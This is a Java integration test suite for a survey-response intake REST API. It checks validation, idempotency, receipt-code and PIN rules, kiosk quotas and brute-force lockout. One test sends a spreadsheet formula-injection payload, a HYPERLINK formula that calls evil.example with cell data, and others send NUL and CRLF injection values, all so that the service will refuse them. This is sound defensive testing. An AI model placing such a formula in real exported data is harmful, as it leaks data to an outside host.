package vn.parsipas.survey.intake;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import jakarta.inject.Inject;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.ValidatableResponse;
import io.vertx.mutiny.sqlclient.Pool;
import io.vertx.mutiny.sqlclient.SqlConnection;
import io.vertx.mutiny.sqlclient.Tuple;
import vn.parsipas.contracts.sipas.SurveyResponseSubmitted;
import vn.parsipas.platform.idempotency.IdempotentRequests;
import vn.parsipas.platform.time.ShiftableClock;
import vn.parsipas.survey.Fixtures;
import vn.parsipas.survey.SurveyServiceTest;

@QuarkusTest
@SurveyServiceTest
class ResponseRestTest {
    private static final Instant JUNE = Instant.parse("2024-06-12T03:40:00Z");

    @Inject
    ShiftableClock clock;

    @Inject
    Pool pool;

    String agency;

    @BeforeEach
    void knownAgency() {
        agency = Fixtures.uniqueAgency();
        Fixtures.agencies(agency);
    }

    @AfterEach
    void resetClock() {
        clock.reset();
    }

    @Test
    void anAcceptedResponseIsStoredOnceAndTheSameIdAgainChangesNothing() {
        SurveyResponseSubmitted response = Fixtures.response(agency, JUNE, 5);

        post(Fixtures.json(response)).statusCode(201).body("outcome", equalTo("accepted")).body("responseId", equalTo(response.responseId()));
        post(Fixtures.json(response)).statusCode(200).body("outcome", equalTo("duplicate"));

        assertThat(Fixtures.count("select count(*) from survey_response where response_id = $1", response.responseId())).isOne();
        Fixtures.asCoordinator().get("/api/v1/indices/2.2.1/" + agency + "/2024-Q2").then().statusCode(200).body("responses", equalTo(1));
    }

    @Test
    void everyRejectionNamesTheFieldAndStoresNothing() {
        ObjectNode unknownVersion = Fixtures.json(Fixtures.response(agency, JUNE, 4)).put("questionnaireVersion", 7);
        ObjectNode missingRequired = Fixtures.json(Fixtures.response(agency, JUNE, 4));
        ((ArrayNode) missingRequired.get("answers")).remove(2);
        ObjectNode outOfScale = Fixtures.json(Fixtures.response(agency, JUNE, 4));
        ((ObjectNode) outOfScale.get("answers").get(0)).put("score", 7);
        ObjectNode unknownQuestion = Fixtures.json(Fixtures.response(agency, JUNE, 4));
        ((ArrayNode) unknownQuestion.get("answers")).addObject().put("questionId", "9.9.9-q1").put("score", 4);
        ObjectNode unknownAgency = Fixtures.json(Fixtures.response("SO-KHONG-TON-TAI", JUNE, 4));
        ObjectNode unknownExpectation = Fixtures.json(Fixtures.response(agency, JUNE, 4));
        ((ArrayNode) unknownExpectation.get("expectations")).add("free-coffee");
        ObjectNode future = Fixtures.json(Fixtures.response(agency, Instant.now().plus(Duration.ofDays(2)), 4));

        post(unknownVersion).statusCode(400).body("errors.field", contains("questionnaireVersion"))
                .body("errors[0].message", containsString("has no published version 7"));
        post(missingRequired).statusCode(400).body("errors.field", contains("answers"))
                .body("errors[0].message", equalTo("missing required answers: 2.2.2-q1"));
        post(outOfScale).statusCode(400).body("errors.field", contains("answers[0].score"));
        post(unknownQuestion).statusCode(400).body("errors.field", contains("answers[6].questionId"));
        post(unknownAgency).statusCode(400).body("errors.field", contains("agencyCode"))
                .body("errors[0].message", containsString("not in the agency directory"));
        post(unknownExpectation).statusCode(400).body("errors.field", contains("expectations[1]"));
        post(future).statusCode(400).body("errors.field", contains("submittedAt"));
        Fixtures.asKiosk().contentType(ContentType.JSON).body("{\"responseId\": \"x\", ").post("/api/v1/responses")
                .then().statusCode(400).contentType("application/problem+json").body("title", equalTo("Malformed request body"));

        for (ObjectNode refused : List.of(unknownVersion, missingRequired, outOfScale, unknownQuestion, unknownAgency, future)) {
            assertThat(Fixtures.count("select count(*) from survey_response where response_id = $1", refused.get("responseId").asText()))
                    .isZero();
        }
    }

    @Test
    void aGroupOfAgenciesCannotHaveHandledADossier() {
        String collective = Fixtures.uniqueAgency();
        Fixtures.agenciesOfKind("collective", collective);

        post(Fixtures.json(Fixtures.response(collective, JUNE, 4))).statusCode(400)
                .body("errors[0].message", containsString("group of agencies"));
    }

    @Test
    void aSecondResponseForTheSameReceiptCodeIsAConflictThatChangesNothing() {
        String code = Fixtures.uniqueReceipt();
        Fixtures.registerReceipt(code, agency);
        SurveyResponseSubmitted first = Fixtures.response(agency, code, JUNE, 5);
        post(Fixtures.json(first)).statusCode(201);

        SurveyResponseSubmitted second = Fixtures.response(agency, code, JUNE, 1);
        post(Fixtures.json(second)).statusCode(409).contentType("application/problem+json")
                .body("detail", equalTo("receipt code " + code + " already has a response; one response per dossier"));

        assertThat(Fixtures.count("select count(*) from survey_response where response_id = $1", second.responseId())).isZero();
        assertThat(Fixtures.count("select count(*) from receipt_code where code = $1 and response_id = $2", code, first.responseId())).isOne();
        Fixtures.asCoordinator().get("/api/v1/indices/2.2.3/" + agency + "/2024").then().body("responses", equalTo(1)).body("satisfiedPercent", equalTo(100.0f));
    }

    @Test
    void aReceiptCodeMustBeRegisteredForTheSameAgencyAndNotExpired() {
        String code = Fixtures.uniqueReceipt();
        Fixtures.registerReceipt(code, agency);
        String other = Fixtures.uniqueAgency();
        Fixtures.agencies(other);

        post(Fixtures.json(Fixtures.response(agency, Fixtures.uniqueReceipt(), JUNE, 4))).statusCode(400)
                .body("errors[0].message", containsString("is not registered"));
        post(Fixtures.json(Fixtures.response(other, code, JUNE, 4))).statusCode(400)
                .body("errors[0].message", equalTo("receipt code " + code + " is a dossier of " + agency + ", not of " + other));
        clock.shiftBy(Duration.ofDays(91));
        post(Fixtures.json(Fixtures.response(agency, code, JUNE, 4))).statusCode(400).body("errors.field", contains("receiptCode"))
                .body("errors[0].message", containsString("expired"));
    }

    @Test
    void aBatchAnswersPerResponseAndOneBadResponseDoesNotRefuseTheOthers() {
        String code = Fixtures.uniqueReceipt();
        Fixtures.registerReceipt(code, agency);
        SurveyResponseSubmitted good = Fixtures.response(agency, code, JUNE, 4);
        ObjectNode missing = Fixtures.json(Fixtures.response(agency, JUNE, 4));
        ((ArrayNode) missing.get("answers")).remove(0);
        ObjectNode malformed = Fixtures.json(Fixtures.response(agency, JUNE, 4));
        ((ObjectNode) malformed.get("answers").get(0)).put("score", "rất tốt");
        SurveyResponseSubmitted sameCode = Fixtures.response(agency, code, JUNE, 2);

        Fixtures.asKiosk().contentType(ContentType.JSON).body(Map.of("responses", List.of(Fixtures.json(good), Fixtures.json(good), missing,
                        malformed, Fixtures.json(sameCode))))
                .post("/api/v1/responses/batch").then().statusCode(200)
                .body("items.outcome", contains("accepted", "duplicate", "rejected", "rejected", "conflict"))
                .body("items[2].errors[0].message", equalTo("missing required answers: 2.2.1-q1"))
                .body("items[3].errors[0].field", equalTo("answers[0].score"))
                .body("counts.accepted", equalTo(1));

        Fixtures.asCoordinator().get("/api/v1/indices/2.2.2/" + agency + "/2024-Q2").then().body("responses", equalTo(1));
    }

    @Test
    void controlCharactersAndHugeNumbersAreRefusedPerResponseAndTheOthersAreStored() {
        ObjectNode nul = Fixtures.json(Fixtures.response(agency, JUNE, 4)).put("procedureCode", "1.001\u0000193");
        ObjectNode lineBreak = Fixtures.json(Fixtures.response(agency, JUNE, 4));
        lineBreak.putObject("respondent").put("ethnicGroup", "Kinh\r\nforged");
        ObjectNode huge = Fixtures.json(Fixtures.response(agency, JUNE, 4));
        ((ObjectNode) huge.get("answers").get(0)).put("score", new java.math.BigDecimal("1e999999999"));
        ObjectNode tiny = Fixtures.json(Fixtures.response(agency, JUNE, 4)).put("questionnaireVersion", new java.math.BigDecimal("1e-999999999"));
        SurveyResponseSubmitted good = Fixtures.response(agency, JUNE, 4);

        Fixtures.asKiosk().contentType(ContentType.JSON).body(Map.of("responses", List.of(nul, lineBreak, huge, tiny, Fixtures.json(good))))
                .post("/api/v1/responses/batch").then().statusCode(200)
                .body("items.outcome", contains("rejected", "rejected", "rejected", "rejected", "accepted"))
                .body("items[0].errors[0].field", equalTo("procedureCode"))
                .body("items[0].errors[0].message", containsString("control character U+0000"))
                .body("items[1].errors[0].field", equalTo("respondent.ethnicGroup"))
                .body("items[2].errors[0].field", equalTo("answers[0].score"))
                .body("items[2].errors[0].message", containsString("out of bounds"))
                .body("items[3].errors[0].field", equalTo("questionnaireVersion"));

        assertThat(Fixtures.count("select count(*) from survey_response where agency_code = $1", agency)).isOne();
    }

    @Test
    void aBatchIsBounded() {
        List<ObjectNode> tooMany = java.util.stream.IntStream.range(0, 501).mapToObj(i -> Fixtures.json(Fixtures.response(agency, JUNE, 4)))
                .toList();

        Fixtures.asKiosk().contentType(ContentType.JSON).body(Map.of("responses", tooMany)).post("/api/v1/responses/batch")
                .then().statusCode(400).body("errors.field", hasItem("responses"));
    }

    @Test
    void anIdempotencyKeyReplaysTheFirstAnswerAndRefusesAnotherBody() {
        Map<String, Object> batch = Map.of("responses", List.of(Fixtures.json(Fixtures.response(agency, JUNE, 4))));
        String key = java.util.UUID.randomUUID().toString();

        Fixtures.asKiosk().contentType(ContentType.JSON).header("Idempotency-Key", key).body(batch).post("/api/v1/responses/batch")
                .then().statusCode(200).body("items[0].outcome", equalTo("accepted"));
        Fixtures.asKiosk().contentType(ContentType.JSON).header("Idempotency-Key", key).body(batch).post("/api/v1/responses/batch")
                .then().statusCode(200).body("items[0].outcome", equalTo("accepted"));
        Fixtures.asKiosk().contentType(ContentType.JSON).header("Idempotency-Key", key)
                .body(Map.of("responses", List.of(Fixtures.json(Fixtures.response(agency, JUNE, 2)))))
                .post("/api/v1/responses/batch").then().statusCode(422).body("detail", containsString(key));
    }

    /** The first request's transaction is played by a connection holding the key: a retry then is told to retry later. */
    @Test
    void aRetryWhileTheFirstRequestIsStillBeingProcessedIsRefusedUntilItIsAnswered() {
        Map<String, Object> batch = Map.of("responses", List.of(Fixtures.json(Fixtures.response(agency, JUNE, 4))));
        String key = java.util.UUID.randomUUID().toString();
        SqlConnection first = pool.getConnection().await().atMost(Duration.ofSeconds(30));
        try {
            first.begin().await().atMost(Duration.ofSeconds(30));
            assertThat(first.preparedQuery(IdempotentRequests.TAKE)
                    .execute(Tuple.of(IdempotentRequests.keyed(key, () -> "", "responses-batch", Fixtures.KIOSK).scopedKey()))
                    .await().atMost(Duration.ofSeconds(30)).iterator().next().getBoolean("taken")).isTrue();

            Fixtures.asKiosk().contentType(ContentType.JSON).header("Idempotency-Key", key).body(batch).post("/api/v1/responses/batch")
                    .then().statusCode(409).contentType("application/problem+json").body("detail", containsString(key));
        } finally {
            first.close().await().atMost(Duration.ofSeconds(30));
        }
        Fixtures.asKiosk().contentType(ContentType.JSON).header("Idempotency-Key", key).body(batch).post("/api/v1/responses/batch")
                .then().statusCode(200).body("items[0].outcome", equalTo("accepted"));
    }

    @Test
    void respondentAttributesMustBeOptionsOfTheQuestionnaire() {
        ObjectNode formula = Fixtures.json(Fixtures.response(agency, JUNE, 4));
        ((ObjectNode) formula.get("respondent")).put("ethnicGroup", "=HYPERLINK(\"https://evil.example/?\"&A2,\"Chi tiết\")");

        post(formula).statusCode(400).body("errors.field", contains("respondent.ethnicGroup"))
                .body("errors[0].message", containsString("is not an option of questionnaire sipas-2025 version 1"));
        ObjectNode again = formula.deepCopy().put("responseId", java.util.UUID.randomUUID().toString());
        Fixtures.asKiosk().contentType(ContentType.JSON).body(Map.of("responses", List.of(Fixtures.json(Fixtures.response(agency, JUNE, 4)),
                        again))).post("/api/v1/responses/batch").then().statusCode(200)
                .body("items.outcome", contains("accepted", "rejected")).body("items[1].errors.field", contains("respondent.ethnicGroup"));
        assertThat(Fixtures.count("select count(*) from survey_response where agency_code = $1 and ethnic_group like '=%'", agency)).isZero();
    }

    @Test
    void withoutTheReceiptPinAKioskAnswersOnlyForTheAgenciesItIsBoundTo() {
        String other = Fixtures.uniqueAgency();
        Fixtures.agencies(other);
        String code = Fixtures.uniqueReceipt();
        String pin = Fixtures.registerReceipt(code, other);
        String guessed = Fixtures.uniqueReceipt();
        String guessedPin = Fixtures.registerReceipt(guessed, other);
        String wrongPin = guessedPin.equals("000000") ? "000001" : "000000";

        Fixtures.asKioskBoundTo("kiosk-" + agency.toLowerCase(), 100, agency).contentType(ContentType.JSON)
                .body(Map.of("responses", List.of(Fixtures.json(Fixtures.response(agency, JUNE, 4)), Fixtures.json(Fixtures.response(other, JUNE, 1)),
                        Fixtures.json(Fixtures.response(other, code, JUNE, 1)), Fixtures.json(Fixtures.response(other, code, JUNE, 5), pin),
                        Fixtures.json(Fixtures.response(other, guessed, JUNE, 1), wrongPin))))
                .post("/api/v1/responses/batch").then().statusCode(200)
                .body("items.outcome", contains("accepted", "rejected", "rejected", "accepted", "rejected"))
                .body("items[1].errors[0].field", equalTo("agencyCode"))
                .body("items[1].errors[0].message", containsString("is not bound to agency " + other))
                .body("items[2].errors[0].field", equalTo("agencyCode"))
                .body("items[4].errors[0].field", equalTo("receiptPin"));

        assertThat(Fixtures.count("select count(*) from survey_response where agency_code = $1", other)).isOne();
        assertThat(Fixtures.count("select count(*) from receipt_code where code = $1 and response_id is null", guessed)).isOne();
    }

    @Test
    void withoutTheReceiptPinASourceAnswersAtMostItsDailyQuota() {
        clock.shiftTo(Instant.parse("2030-03-04T03:00:00Z"));
        String client = "quota-kiosk-" + agency.toLowerCase();
        String code = Fixtures.uniqueReceipt();
        String pin = Fixtures.registerReceipt(code, agency);
        List<ObjectNode> five = java.util.stream.IntStream.range(0, 5).mapToObj(i -> Fixtures.json(Fixtures.response(agency, JUNE, 4))).toList();

        Fixtures.asKioskBoundTo(client, 3, agency).contentType(ContentType.JSON).body(Map.of("responses", five))
                .post("/api/v1/responses/batch").then().statusCode(200)
                .body("items.outcome", contains("accepted", "accepted", "accepted", "rejected", "rejected"))
                .body("items[3].errors[0].message", containsString("quota of 3 responses without a receipt PIN"));
        Fixtures.asKioskBoundTo(client, 3, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, JUNE, 4)))
                .post("/api/v1/responses").then().statusCode(400);
        Fixtures.asKioskBoundTo(client, 3, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, code, JUNE, 4), pin))
                .post("/api/v1/responses").then().statusCode(201);
        clock.shiftBy(Duration.ofDays(1));
        Fixtures.asKioskBoundTo(client, 3, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, JUNE, 4)))
                .post("/api/v1/responses").then().statusCode(201);

        assertThat(Fixtures.count("select count(*) from survey_response where source = $1", "/" + client)).isEqualTo(5);
    }

    @Test
    void aSourceThatSendsTwentyWrongPinsGetsNoResponseWithAPinAcceptedThatDay() {
        clock.shiftTo(Instant.parse("2030-05-06T03:00:00Z"));
        String code = Fixtures.uniqueReceipt();
        String pin = Fixtures.registerReceipt(code, agency);
        String wrong = pin.equals("000000") ? "000001" : "000000";
        List<ObjectNode> guesses = java.util.stream.IntStream.range(0, 19)
                .mapToObj(i -> Fixtures.json(Fixtures.response(agency, code, JUNE, 1), wrong)).toList();
        String client = "guessing-kiosk-" + agency.toLowerCase();

        Fixtures.asKioskBoundTo(client, 100, agency).contentType(ContentType.JSON).body(Map.of("responses", guesses))
                .post("/api/v1/responses/batch").then().statusCode(200).body("counts.rejected", equalTo(19));
        // A single response refused is rolled back whole, and its wrong PIN still counts.
        Fixtures.asKioskBoundTo(client, 100, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, code, JUNE, 1), wrong))
                .post("/api/v1/responses").then().statusCode(400).body("errors[0].field", equalTo("receiptPin"))
                .body("errors[0].message", equalTo("receipt code " + code + " is not registered with this PIN"));
        Fixtures.asKioskBoundTo(client, 100, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, code, JUNE, 1), pin))
                .post("/api/v1/responses").then().statusCode(400).body("errors[0].message", containsString("sent 20 wrong receipt PINs today"));
        clock.shiftBy(Duration.ofDays(1));
        Fixtures.asKioskBoundTo(client, 100, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, code, JUNE, 4), pin))
                .post("/api/v1/responses").then().statusCode(201);
    }

    private static ValidatableResponse post(Object body) {
        return Fixtures.asKiosk().contentType(ContentType.JSON).body(body).post("/api/v1/responses").then();
    }
}
